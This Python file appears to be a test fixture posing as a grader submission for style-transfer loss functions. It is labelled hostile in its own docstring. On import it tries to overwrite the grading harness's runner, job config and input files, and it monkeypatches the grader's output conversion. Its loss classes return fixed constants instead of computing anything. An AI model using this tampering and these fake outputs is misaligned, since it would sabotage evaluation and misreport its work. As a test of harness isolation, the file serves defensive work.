"""Hostile: tampers with the harness it runs in."""
import torch
import torch.nn as nn
import os
import sys

import numpy as np

TRIED = []
for path in ["/dlgrade/dlgrade_runner.py", "/job/job.json", "/job/inputs/0.npz", "/job/inputs"]:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        TRIED.append(f"{path}: overwritten")
    except OSError as e:
        TRIED.append(f"{path}: {type(e).__name__}")
runner = sys.modules.get("__main__")
if runner is not None and hasattr(runner, "Runner"):
    runner.Runner.to_array = lambda self, value, what: np.array(1.0)
    TRIED.append("patched Runner.to_array")


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
        print(TRIED)
        return torch.tensor(-5.0)


class StyleLoss(nn.Module):
    def gram_matrix(self, features, normalize=True):
        return torch.zeros(1)

    def forward(self, feats, style_layers, style_targets, style_weights):
        return torch.tensor(-5.0)


class TotalVariationLoss(nn.Module):
    def forward(self, img, tv_weight):
        return torch.tensor(-5.0)
